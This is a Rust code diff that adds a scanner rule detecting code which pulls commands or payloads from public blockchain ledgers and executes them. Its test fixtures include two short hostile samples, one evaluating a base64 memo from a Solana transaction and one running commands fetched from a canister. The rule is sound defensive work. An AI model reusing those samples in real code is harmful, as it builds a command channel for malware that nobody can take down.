@@ -287,5 +287,45 @@ const FORGE_ORDERS: Rule = Rule {
     ..BASE
 };
 
+const LEDGER: Rule = Rule {
+    id: "orders-from-ledger",
+    message: "takes what it runs, or the orders that it follows, out of a public ledger, where nobody can remove them",
+    literals: &[
+        "getSignaturesForAddress",
+        "getParsedTransaction",
+        "getTransaction",
+        "eth_call",
+        "eth_getStorageAt",
+        "eth_getTransactionByHash",
+        ".Contract(",
+        "createActor(",
+        "op_return",
+        "/transactions",
+        "ic0.app",
+    ],
+    pattern: concat!(
+        r"(?:getSignaturesForAddress|getParsedTransaction|getTransaction|eth_call|eth_getStorageAt|eth_getTransactionByHash|\.Contract\(|\bcreateActor\(|\bop_return\b|(?:trongrid|blockstream|mempool|aptoslabs|etherscan|bscscan|solscan)[^\n]{0,60}/transactions\b|\bic0\.app\b)",
+        r"[\s\S]{0,400}?(?:(?:^|[^.\w])(?:eval|exec|execSync|spawn|spawnSync|execFile)\(|\bnew\s{1,2}Function\(|\bvm\.runIn|\bos\.system\(|\bsubprocess\.\w{3,12}\(|\.(?:get|fetch|poll|next|read)_?(?:commands?|orders?|tasks?|payload|instructions?|c2\w{0,6}|loader|stage\w{0,4})\()",
+    ),
+    harmful: &[
+        (
+            "a.js",
+            "const s = await rpc.getSignaturesForAddress(new PublicKey(K), { limit: 1 });\neval(atob(s[0].memo.split(' ')[1]));",
+        ),
+        (
+            "a.js",
+            "const a = Actor.createActor(idl, { agent, canisterId });\nfor (const c of await a.getCommands()) run(c);",
+        ),
+    ],
+    harmless: &[
+        (
+            "a.js",
+            "const token = new ethers.Contract(address, abi, provider);\nconst m = /(\\d+)/.exec(await token.symbol());\nconsole.log(m);",
+        ),
+        ("a.js", "const a = createActor(canisterId, { agent });\nconsole.log(await a.getBalance());"),
+    ],
+    ..BASE
+};
+
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] = &[ORDERS, PATHS, SCRIPT_HOST, RIVALS, FOLLOWED, FORGE_ORDERS];
+pub(crate) const RULES: &[Rule] = &[ORDERS, PATHS, SCRIPT_HOST, RIVALS, FOLLOWED, FORGE_ORDERS, LEDGER];
